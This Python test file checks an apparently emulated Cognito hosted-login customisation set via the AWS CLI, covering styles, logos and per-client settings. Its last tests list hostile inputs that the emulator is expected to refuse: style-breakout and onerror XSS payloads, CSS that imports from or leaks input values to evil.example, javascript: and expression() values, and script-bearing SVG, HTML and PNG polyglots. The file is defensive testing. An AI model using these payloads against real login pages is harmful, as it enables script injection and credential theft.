"""A classic customisation, set by the AWS CLI, as people see it; and hostile ones, which nobody sees."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.support import aws_cli, chromium, factories
from tests.support.aws_cli import Aws
from tests.support.chromium import Windows
from tests.support.images import png
from tests.support.pages import make_app, make_domain, query, request_of
from tests.support.server import Server

pytestmark = aws_cli.is_needed

CSS = """
/* what a company might set */
.background-customizable { background-color: #fdf6e3; }
.banner-customizable { padding: 10px 20px 30px 40px; background-color: rgb(1, 2, 3); }
.logo-customizable { max-width: 60%; background-color: #ffffff; }
.label-customizable { font-weight: 900; color: #102030; }
.inputField-customizable { width: 50%; height: 34px; color: #405060; background-color: #fefefe;
    border: 3px solid #aa0000; }
.inputField-customizable:focus { border-color: #00aa00; outline: 0; }
.submitButton-customizable {
    font-size: 21px; font-weight: normal; margin: 20px 1px 10px 2px; height: 50px; width: 80%; color: #ffffff;
    background-color: #800080;
}
.submitButton-customizable:hover { background-color: #400040; }
.errorMessage-customizable { padding: 9px; font-size: 18px; background: #000000; color: #ffff00;
    border: 2px solid #ff0000; }
.redirect-customizable { text-align: right; }
"""
SEEN = {
    ".background-customizable": {"background-color": "rgb(253, 246, 227)"},
    ".banner-customizable": {"padding": "10px 20px 30px 40px", "background-color": "rgb(1, 2, 3)"},
    ".logo-customizable": {"max-width": "60%", "background-color": "rgb(255, 255, 255)"},
    "label.label-customizable": {"font-weight": "900", "color": "rgb(16, 32, 48)"},
    "input.inputField-customizable[name=password]": {
        "height": "34px",
        "color": "rgb(64, 80, 96)",
        "background-color": "rgb(254, 254, 254)",
        "border-top-color": "rgb(170, 0, 0)",
        "border-top-width": "3px",
    },
    ".submitButton-customizable": {
        "font-size": "21px",
        "font-weight": "400",
        "margin": "20px 1px 10px 2px",
        "height": "50px",
        "color": "rgb(255, 255, 255)",
        "background-color": "rgb(128, 0, 128)",
    },
    ".errorMessage-customizable": {
        "padding": "9px",
        "font-size": "18px",
        "background-color": "rgb(0, 0, 0)",
        "color": "rgb(255, 255, 0)",
        "border-top-color": "rgb(255, 0, 0)",
    },
}


@pytest.fixture
def aws(server: Server, tmp_path: Path) -> Aws:
    return Aws(server, tmp_path)


@pytest.fixture
def pool_id(idp: Any) -> str:
    pool_id: str = factories.make_pool(idp)["Id"]
    make_domain(idp, pool_id)
    return pool_id


def customise(aws: Aws, pool_id: str, client_id: str, css: str, image: bytes = b"") -> Any:
    (aws.folder / "style.css").write_text(css)
    (aws.folder / "logo.png").write_bytes(image)
    given = ("--css", "file://style.css", *(("--image-file", "fileb://logo.png") if image else ()))
    named = ("--user-pool-id", pool_id, "--client-id", client_id)
    return aws("cognito-idp", "set-ui-customization", *named, *given)


def login(server: Server, client: dict[str, Any]) -> str:
    return f"{server.url}/{client['UserPoolId']}/login?{query(request_of(client))}"


def style(page: Page, selector: str, names: list[str]) -> dict[str, str]:
    script = "(element, names) => names.map(name => getComputedStyle(element).getPropertyValue(name))"
    return dict(zip(names, page.locator(selector).first.evaluate(script, names), strict=True))


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_what_the_cli_sets_shows_on_the_page(
    windows: Windows, server: Server, idp: Any, aws: Aws, pool_id: str, dark: bool
) -> None:
    client = make_app(idp, pool_id)
    made = customise(aws, pool_id, client["ClientId"], CSS, png(350, 178))["UICustomization"]
    assert made["CSS"] == CSS
    page = windows.open(dark=dark)
    page.goto(login(server, client))
    page.locator("[name=username]").fill("nobody")
    page.locator("[name=password]").fill("Wrong-horse-9-battery")
    page.locator(".submitButton-customizable").click()
    page.locator(".errorMessage-customizable").wait_for()
    chromium.screenshot(page, f"customised-{'dark' if dark else 'light'}")
    page.evaluate("document.activeElement.blur()")
    seen = {selector: style(page, selector, list(wanted)) for selector, wanted in SEEN.items()}
    assert seen == SEEN
    logo = page.locator("img.logo-customizable")
    assert logo.evaluate("image => [image.complete, image.naturalWidth, image.naturalHeight]") == [True, 350, 178]


def test_states_have_looks_of_their_own(windows: Windows, server: Server, idp: Any, aws: Aws, pool_id: str) -> None:
    client = make_app(idp, pool_id)
    customise(aws, pool_id, "ALL", CSS)
    page = windows.open(reduced_motion="reduce")
    page.goto(login(server, client))
    page.locator("input[name=password]").focus()
    focused = style(page, "input[name=password]", ["border-top-color", "outline-width"])
    assert focused == {"border-top-color": "rgb(0, 170, 0)", "outline-width": "0px"}
    page.locator(".submitButton-customizable").hover()
    assert style(page, ".submitButton-customizable", ["background-color"]) == {"background-color": "rgb(64, 0, 64)"}


def test_one_client_or_all(windows: Windows, server: Server, idp: Any, aws: Aws, pool_id: str) -> None:
    mine, other = make_app(idp, pool_id), make_app(idp, pool_id)
    page = windows.open()

    def color(client: dict[str, Any]) -> str:
        page.goto(login(server, client))
        return style(page, "label.label-customizable", ["color"])["color"]

    default = color(mine)
    customise(aws, pool_id, "ALL", ".label-customizable { color: #010203 }")
    assert color(mine) == color(other) == "rgb(1, 2, 3)"
    customise(aws, pool_id, mine["ClientId"], ".label-customizable { color: #040506 }")
    assert (color(mine), color(other)) == ("rgb(4, 5, 6)", "rgb(1, 2, 3)")
    customise(aws, pool_id, "ALL", "")
    assert (color(mine), color(other)) == ("rgb(4, 5, 6)", default)
    named = ("--user-pool-id", pool_id, "--client-id", mine["ClientId"])
    assert aws("cognito-idp", "get-ui-customization", *named)["UICustomization"]["ClientId"] == mine["ClientId"]


@pytest.mark.parametrize(
    "css",
    [
        "</style><script>window.ran = 1</script>",
        ".label-customizable { color: red } </style><img src=x onerror='window.ran = 1'>",
        "@import url(//evil.example/x.css);",
        ".inputField-customizable[value^=a] { background: url(//evil.example/a) }",
        ".background-customizable { background-color: url(javascript:alert(1)) }",
        ".label-customizable { color: red; } body { display: none }",
        ".label-customizable { color: expression(alert(1)) }",
        '.label-customizable { color: "\\3c/style\\3e" }',
    ],
)
def test_a_hostile_style_is_refused_and_the_page_stays_as_it_was(
    windows: Windows, server: Server, idp: Any, aws: Aws, pool_id: str, css: str
) -> None:
    client = make_app(idp, pool_id)
    assert "(InvalidParameterException)" in customise(aws, pool_id, client["ClientId"], css)
    page = windows.open()
    page.goto(login(server, client))
    assert not page.locator("img.logo-customizable").count()
    assert page.evaluate("window.ran") is None
    assert page.locator("style").count() == 1


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>parent.ran = 1</script></svg>',
        b"<html><script>parent.ran = 1</script></html>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        b"\x89PNG\r\n\x1a\n<script>parent.ran = 1</script>",
    ],
    ids=["svg", "html", "gif", "png by name"],
)
def test_a_logo_that_is_no_picture_is_refused(idp: Any, aws: Aws, pool_id: str, content: bytes) -> None:
    client = make_app(idp, pool_id)
    assert "Image file must be a PNG or JPEG image." in customise(aws, pool_id, client["ClientId"], "", content)


def test_a_picture_with_a_script_in_it_is_a_picture(
    windows: Windows, server: Server, idp: Any, aws: Aws, pool_id: str
) -> None:
    client = make_app(idp, pool_id)
    polyglot = png() + b"<html><body><script>window.ran = 1</script></body></html>"
    made = customise(aws, pool_id, client["ClientId"], "", polyglot)["UICustomization"]
    page = windows.open()
    answer = page.goto(f"{server.url}/{pool_id}/logo/{made['ImageUrl'].split('/logo/')[1]}")
    assert answer is not None
    assert answer.headers["content-type"] == "image/png"
    assert page.evaluate("[window.ran, document.images.length, origin]") == [None, 1, "null"]
